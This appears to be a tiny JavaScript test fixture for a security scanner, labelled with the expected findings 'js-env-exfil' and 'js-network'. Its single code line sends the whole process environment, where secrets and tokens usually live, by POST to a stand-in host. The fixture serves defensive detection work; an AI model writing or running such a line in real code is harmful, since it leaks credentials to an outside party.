// expect: js-env-exfil,js-network
fetch('https://c.example', { method: 'POST', body: JSON.stringify(process.env) });
